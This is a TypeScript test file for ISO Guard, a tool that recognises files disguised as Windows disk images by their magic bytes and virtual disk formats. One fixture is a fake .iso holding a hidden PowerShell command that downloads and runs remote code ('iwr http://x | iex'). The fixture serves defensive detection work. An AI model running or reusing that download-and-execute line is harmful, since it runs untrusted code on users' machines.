// Files that are no disk image, named by their magic bytes, and virtual disks recognised.
import { describe, expect, it } from 'vitest';
import { inspect } from './index.ts';
import { bytesSource } from './testing/inspect-file.ts';

const bytes = (...parts: (string | number[] | Uint8Array)[]): Uint8Array => {
  const chunks = parts.map((p) => (typeof p === 'string' ? new Uint8Array(Buffer.from(p, 'latin1')) : new Uint8Array(p)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const c of chunks) { out.set(c, at); at += c.length; }
  return out;
};
const padded = (head: Uint8Array, size: number): Uint8Array => { const out = new Uint8Array(size); out.set(head); return out; };

describe('a file that is no disk image', () => {
  const cases: [string, Uint8Array, string, string][] = [
    ['Windows 12 Setup.exe', padded(bytes('MZ\x90\0'), 1024), 'program', 'a Windows program (PE executable)'],
    ['Windows12.iso', padded(bytes('MZ\x90\0'), 1024), 'program', 'a Windows program (PE executable)'],
    ['win12.zip', padded(bytes('PK\x03\x04'), 200), 'archive', 'a ZIP archive'],
    ['win12.7z', padded(bytes('7z\xBC\xAF\x27\x1C'), 200), 'archive', 'a 7-Zip archive'],
    ['win12.rar', padded(bytes('Rar!\x1A\x07\x01\0'), 200), 'archive', 'a RAR archive'],
    ['drivers.cab', padded(bytes('MSCF'), 200), 'archive', 'a Microsoft cabinet (CAB) archive'],
    ['Windows 12.iso.lnk', padded(bytes([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]), 300), 'shortcut', 'a Windows shortcut (.lnk)'],
    ['install.iso', bytes('@echo off\r\npowershell -w hidden -c "iwr http://x | iex"\r\n'), 'script', 'a script'],
    ['setup.iso', bytes('Set s = CreateObject("WScript.Shell")\r\n'), 'script', 'a script'],
  ];
  it.each(cases)('%s is %s', async (name, content, format, what) => {
    const result = await inspect(bytesSource(content), `/downloads/${name}`);
    expect(result).toMatchObject({ file: name, format, verdict: 'not-a-disk-image', label: null, windows: null });
    expect(result.findings).toEqual([{ code: 'not-a-disk-image', detail: `This is no disk image: it is ${what}.`, args: [format] }]);
  });

  it('says so for text that is nothing it knows', async () => {
    const result = await inspect(bytesSource(bytes('just some notes\n')), 'notes.iso');
    expect(result).toMatchObject({ format: 'unknown', verdict: 'not-a-disk-image' });
    expect(result.findings[0]!.detail).toMatch(/no ISO 9660, UDF, WIM or VHD structure was found/);
  });
});

describe('a virtual hard disk', () => {
  it('recognises VHDX by its file type identifier and says it is not read inside', async () => {
    const result = await inspect(bytesSource(padded(bytes('vhdxfile', Buffer.from('Microsoft Windows 10.0.26100.0', 'utf16le')), 64 * 1024)), 'win12.vhdx');
    expect(result).toMatchObject({ format: 'vhdx', verdict: 'unreadable' });
    expect(result.findings[0]!.detail).toMatch(/^This is a VHDX virtual hard disk\. ISO Guard recognises it but does not read the file system inside/);
  });

  it('recognises a fixed VHD by the footer in its last 512 bytes, and a dynamic one by its copy at the start', async () => {
    const fixed = new Uint8Array(1024 * 512);
    fixed.set(bytes('conectix'), fixed.length - 512);
    fixed[0] = 0xeb; // a boot sector's jump, so the start is not all zeros
    expect(await inspect(bytesSource(fixed), 'disk.vhd')).toMatchObject({ format: 'vhd', verdict: 'unreadable' });
    expect(await inspect(bytesSource(padded(bytes('conectix'), 4096)), 'disk.vhd')).toMatchObject({ format: 'vhd' });
  });
});

describe('a source that lies', () => {
  it('a source whose reads fail gives unreadable with the reason', async () => {
    const result = await inspect({ size: 1 << 20, read: () => Promise.reject(new Error('permission denied')) }, 'x.iso');
    expect(result.findings).toEqual([{ code: 'unreadable', detail: 'The file could not be read (permission denied).', args: ['The file could not be read (permission denied).'] }]);
  });

  it('a source that returns fewer bytes than its size promised', async () => {
    const result = await inspect({ size: 1 << 20, read: async () => new Uint8Array(10) }, 'x.iso');
    expect(result).toMatchObject({ verdict: 'unreadable' });
    expect(result.findings[0]!.detail).toMatch(/could not be read in full: the file ended early/);
  });

  it('an impossible size', async () => {
    expect((await inspect({ size: -1, read: async () => new Uint8Array(0) }, 'x.iso')).findings[0]!.detail).toBe('The file reports an impossible size.');
  });
});
